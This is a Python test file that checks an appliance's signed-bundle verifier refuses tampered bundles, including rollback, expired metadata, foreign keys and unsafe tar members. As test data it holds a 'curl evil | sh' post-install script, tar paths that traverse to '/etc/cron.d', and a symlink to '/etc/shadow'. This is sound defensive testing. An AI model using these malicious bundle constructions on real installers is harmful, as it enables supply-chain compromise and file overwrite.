"""Bundles an attacker could hand a host: each is refused before anything is written.

Small bundles are signed here with the real metadata code (TUF via python-tuf)
and written with the real archive code; only the payload is small.
"""

from __future__ import annotations

import contextlib
import hashlib
import io
import json
import shutil
import subprocess
import tarfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from appliance.audit import Actor
from appliance.bundle import repository
from appliance.bundle.archive import BundleArchive, write_bundle
from appliance.bundle.host import Host
from appliance.bundle.verify import commit_trust, verify_bundle
from appliance.errors import BundleError

ROOT = Path(__file__).resolve().parent.parent
PASS = "signing-pass-1"


def release_bundle(
    keys: Path,
    out: Path,
    release: str,
    *,
    now: datetime | None = None,
    key: Path | None = None,
    payload: bytes | None = None,
    extra: dict[str, bytes] | None = None,
    binaries: object = None,
) -> Path:
    """`extra`: more signed files (target path -> bytes); `binaries`: the manifest's."""
    files_dir = out.with_suffix(".files")
    files_dir.mkdir()
    weights = payload or f"weights of {release} ".encode() * 500
    model = {
        "file": "model/m.sealed",
        "content_id": "m@1",
        "sha256": hashlib.sha256(weights).hexdigest(),
    }
    document: dict[str, object] = {"release": release, "model": model}
    if binaries is not None:
        document["binaries"] = binaries
    (files_dir / "bundle.json").write_text(json.dumps(document))
    (files_dir / "m.sealed").write_bytes(weights)
    files = {"bundle.json": files_dir / "bundle.json", "model/m.sealed": files_dir / "m.sealed"}
    for number, (path, data) in enumerate((extra or {}).items()):
        files[path] = files_dir / f"extra-{number}"
        files[path].write_bytes(data)
    signed = repository.sign_release(keys, PASS, files, timestamp_days=30, now=now, key=key)
    write_bundle(out, signed.members(), files)
    return out


@pytest.fixture
def keys(tmp_path: Path) -> Path:
    repository.init(tmp_path / "keys", PASS)
    return tmp_path / "keys"


@pytest.fixture
def host(tmp_path: Path, keys: Path) -> Path:
    """A host that trusts release 1's metadata (as after an install)."""
    first = release_bundle(keys, tmp_path / "r1.bundle", "1.0.0")
    trust = tmp_path / "prefix" / "trust"
    trust.parent.mkdir()
    with verify_bundle(first, None, (keys / "root.json").read_bytes()) as verified:
        commit_trust(verified, trust)
    return trust


def refused(bundle: Path, trust: Path | None, root: bytes | None, why: str) -> None:
    with pytest.raises(BundleError, match=why):
        verify_bundle(bundle, trust, root).close()


def members_of(bundle: Path) -> dict[str, bytes]:
    with tarfile.open(bundle) as tar:
        return {m.name: tar.extractfile(m).read() for m in tar}  # type: ignore[union-attr]


def rewrite(bundle: Path, out: Path, members: dict[str, bytes]) -> Path:
    with tarfile.open(out, "w") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out


def test_a_genuine_newer_bundle_passes(tmp_path: Path, keys: Path, host: Path) -> None:
    newer = release_bundle(keys, tmp_path / "r2.bundle", "2.0.0")
    with verify_bundle(newer, host, None) as verified:
        assert verified.release == "2.0.0"
        assert verified.metadata_version == 2
        assert set(verified.targets) == {"bundle.json", "model/m.sealed"}


def test_rollback_to_an_older_bundle(tmp_path: Path, keys: Path) -> None:
    older = release_bundle(keys, tmp_path / "r1.bundle", "1.0.0")
    newer = release_bundle(keys, tmp_path / "r2.bundle", "2.0.0")
    trust = tmp_path / "trust"
    with verify_bundle(newer, None, (keys / "root.json").read_bytes()) as verified:
        commit_trust(verified, trust)
    refused(older, trust, None, "a rollback")


def test_freeze_with_expired_metadata(tmp_path: Path, keys: Path, host: Path) -> None:
    stale = release_bundle(
        keys, tmp_path / "stale.bundle", "2.0.0", now=datetime.now(UTC) - timedelta(days=31)
    )
    refused(stale, host, None, "expired, a frozen or stale bundle")


def test_mix_and_match_a_file_from_another_release(tmp_path: Path, keys: Path, host: Path) -> None:
    one = members_of(release_bundle(keys, tmp_path / "a.bundle", "2.0.0", payload=b"A" * 4000))
    two = members_of(release_bundle(keys, tmp_path / "b.bundle", "3.0.0", payload=b"B" * 4000))
    mixed = rewrite(
        tmp_path / "b.bundle",
        tmp_path / "mixed.bundle",
        two | {"targets/model/m.sealed": one["targets/model/m.sealed"]},
    )
    refused(mixed, host, None, "'model/m.sealed' does not match its signed hash")


def test_an_unsigned_file_added(tmp_path: Path, keys: Path, host: Path) -> None:
    members = members_of(release_bundle(keys, tmp_path / "r2.bundle", "2.0.0"))
    added = rewrite(
        tmp_path / "r2.bundle",
        tmp_path / "added.bundle",
        members | {"targets/installer/post-install.sh": b"curl evil | sh\n"},
    )
    refused(added, host, None, "'targets/installer/post-install.sh' is not listed")


def test_a_signed_file_removed(tmp_path: Path, keys: Path, host: Path) -> None:
    members = members_of(release_bundle(keys, tmp_path / "r2.bundle", "2.0.0"))
    del members["targets/model/m.sealed"]
    refused(
        rewrite(tmp_path / "r2.bundle", tmp_path / "cut.bundle", members),
        host,
        None,
        "the signed file 'model/m.sealed' is missing",
    )


def test_endless_data_in_a_file(tmp_path: Path, keys: Path, host: Path) -> None:
    members = members_of(release_bundle(keys, tmp_path / "r2.bundle", "2.0.0"))
    members["targets/model/m.sealed"] += b"\x00" * 1_000_000
    long = rewrite(tmp_path / "r2.bundle", tmp_path / "long.bundle", members)
    refused(long, host, None, "the signed metadata says")


def test_endless_data_in_metadata(tmp_path: Path, keys: Path, host: Path) -> None:
    members = members_of(release_bundle(keys, tmp_path / "r2.bundle", "2.0.0"))
    members["metadata/timestamp.json"] += b" " * (64 << 10)  # still valid JSON, too long
    padded = rewrite(tmp_path / "r2.bundle", tmp_path / "padded.bundle", members)
    refused(padded, host, None, "larger than allowed, endless data")


def test_a_bundle_signed_by_another_key(tmp_path: Path, keys: Path, host: Path) -> None:
    repository.init(tmp_path / "other", PASS)
    forged = release_bundle(tmp_path / "other", tmp_path / "forged.bundle", "9.0.0")
    refused(forged, host, None, "not signed by keys this host trusts")


def test_a_revoked_release_key(tmp_path: Path, keys: Path, host: Path) -> None:
    assert repository.rotate(keys, PASS, "release") == 2
    after = release_bundle(keys, tmp_path / "r2.bundle", "2.0.0")
    with verify_bundle(after, host, None) as verified:  # the chain brings root v2
        commit_trust(verified, host)
    assert json.loads((host / "root.json").read_text())["signed"]["version"] == 2
    stolen = keys / "release.key.retired-v1"
    forged = release_bundle(keys, tmp_path / "forged.bundle", "3.0.0", key=stolen)
    refused(forged, host, None, "not signed by keys this host trusts")


def test_root_rotation_is_followed_from_the_pinned_root(tmp_path: Path, keys: Path) -> None:
    pinned = (keys / "root.json").read_bytes()
    repository.rotate(keys, PASS, "root")
    repository.rotate(keys, PASS, "root")
    bundle = release_bundle(keys, tmp_path / "r1.bundle", "1.0.0")
    with verify_bundle(bundle, None, pinned) as verified:
        assert verified.release == "1.0.0"
        root = json.loads((verified.work / "root.json").read_text())["signed"]
    assert root["version"] == 3


def test_a_broken_root_chain(tmp_path: Path, keys: Path) -> None:
    pinned = (keys / "root.json").read_bytes()
    repository.rotate(keys, PASS, "root")
    members = members_of(release_bundle(keys, tmp_path / "r1.bundle", "1.0.0"))
    chain = json.loads(members["metadata/2.root.json"])
    chain["signatures"] = chain["signatures"][1:]  # keep only the new key's signature
    members["metadata/2.root.json"] = json.dumps(chain).encode()
    broken = rewrite(tmp_path / "r1.bundle", tmp_path / "broken.bundle", members)
    refused(broken, None, pinned, "not signed by keys this host trusts")


def test_a_host_without_trust_asks_for_the_root(tmp_path: Path, keys: Path) -> None:
    bundle = release_bundle(keys, tmp_path / "r1.bundle", "1.0.0")
    refused(bundle, None, None, "pin the root with --trust root.json")


@pytest.mark.parametrize(
    ("kind", "why"),
    [
        ("dotdot", "leaves its folder"),
        ("absolute", "absolute or unusual path"),
        ("symlink", "is a link"),
        ("hardlink", "is a link"),
        ("device", "is not a plain file"),
        ("outside", "outside the bundle's metadata and targets"),
    ],
)
def test_unsafe_tar_members_are_refused_before_anything_is_read(
    tmp_path: Path, keys: Path, kind: str, why: str
) -> None:
    genuine = members_of(release_bundle(keys, tmp_path / "r1.bundle", "1.0.0"))
    unsafe = tmp_path / f"{kind}.bundle"
    with tarfile.open(unsafe, "w") as tar:
        for name, data in genuine.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        info = tarfile.TarInfo(
            {
                "dotdot": "targets/../../etc/cron.d/x",
                "absolute": "/etc/cron.d/x",
                "outside": "extra/notes.txt",
            }.get(kind, "targets/model/link")
        )
        if kind == "symlink":
            info.type, info.linkname = tarfile.SYMTYPE, "/etc/shadow"
        elif kind == "hardlink":
            info.type, info.linkname = tarfile.LNKTYPE, "targets/bundle.json"
        elif kind == "device":
            info.type = tarfile.CHRTYPE
        payload = b"x" if info.type == tarfile.REGTYPE else b""
        info.size = len(payload)
        tar.addfile(info, io.BytesIO(payload))
    with pytest.raises(BundleError, match=why):
        BundleArchive(unsafe)
    prefix = tmp_path / "prefix"
    with pytest.raises(BundleError, match=why):
        Host(prefix, Actor("it", "installer")).install(
            unsafe,
            upgrade=False,
            trust_root=keys / "root.json",
            identity=keys / "root.json",
            stage=_quiet,
        )
    assert not (prefix / "releases").exists()
    assert not (prefix / "trust").exists()
    assert not (prefix / "current").exists()
    # The stdlib bootstrap of install.sh refuses it too, before making anything.
    result = subprocess.run(
        [
            str(ROOT / "installer" / "install.sh"),
            str(unsafe),
            "--prefix",
            str(prefix),
            "--trust",
            str(keys / "root.json"),
            "--identity",
            str(keys / "root.json"),
        ],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 16, result.stderr
    assert "was refused: the member" in result.stderr.splitlines()[-1]
    assert sorted(p.name for p in prefix.iterdir()) == [".lock"]  # the Host's lock, no more


def test_a_refused_upgrade_changes_nothing(tmp_path: Path, keys: Path, host: Path) -> None:
    prefix = host.parent
    (prefix / "releases" / "1.0.0").mkdir(parents=True)
    (prefix / "current").symlink_to("releases/1.0.0")
    before = {p.name: p.read_bytes() for p in host.iterdir() if p.is_file()}
    stale = release_bundle(
        keys, tmp_path / "stale.bundle", "2.0.0", now=datetime.now(UTC) - timedelta(days=40)
    )
    with pytest.raises(BundleError, match="expired"):
        Host(prefix, Actor("it", "installer")).install(
            stale, upgrade=True, trust_root=None, identity=None, stage=_quiet
        )
    assert {p.name: p.read_bytes() for p in host.iterdir() if p.is_file()} == before
    assert (prefix / "current").readlink() == Path("releases/1.0.0")
    assert sorted(p.name for p in (prefix / "releases").iterdir()) == ["1.0.0"]
    shutil.rmtree(prefix / "releases")


TOOL = b"#!/bin/sh\necho a stand-in for llama-server\n"


def listed(name: str, data: bytes) -> dict[str, object]:
    """The manifest's `binaries` naming one file."""
    entry = {"file": f"libexec/{name}", "sha256": hashlib.sha256(data).hexdigest()}
    return {"files": {name: entry | {"bytes": len(data)}}}


@pytest.mark.parametrize(
    ("signed", "binaries", "why"),
    [
        ({"libexec/llama-server": TOOL}, listed("llama-server", TOOL), None),
        ({"libexec/llama-server": TOOL}, None, "disagree on the binary 'libexec/llama-server'"),
        ({}, listed("llama-server", TOOL), "disagree on the binary 'libexec/llama-server'"),
        (
            {"libexec/llama-server": TOOL},
            listed("llama-server", b"other bytes"),
            "disagree on the binary 'libexec/llama-server'",
        ),
        ({"libexec/llama-server": TOOL}, listed("..", TOOL), r"'\.\.' is not a plain file"),
        ({"libexec/a/b": TOOL}, listed("a/b", TOOL), "'a/b' is not a plain file name"),
        ({"bin/llama-server": TOOL}, listed("llama-server", TOOL), "disagree on the binary"),
        ({}, {"files": ["llama-server"]}, "its binaries list no files"),
    ],
)
def test_the_manifest_names_exactly_the_signed_binaries(
    tmp_path: Path, keys: Path, host: Path, signed: dict[str, bytes], binaries: object, why: str
) -> None:
    """A release's binaries land in libexec/ and doctor checks them against the manifest's
    sha256: the manifest must name every signed libexec/ file, with its signed hash."""
    bundle = release_bundle(keys, tmp_path / "r2.bundle", "2.0.0", extra=signed, binaries=binaries)
    if why is None:
        with verify_bundle(bundle, host, None) as verified:
            assert verified.binaries == ["libexec/llama-server"]
    else:
        refused(bundle, host, None, why)


def _quiet(_description: str) -> contextlib.nullcontext[None]:
    return contextlib.nullcontext()
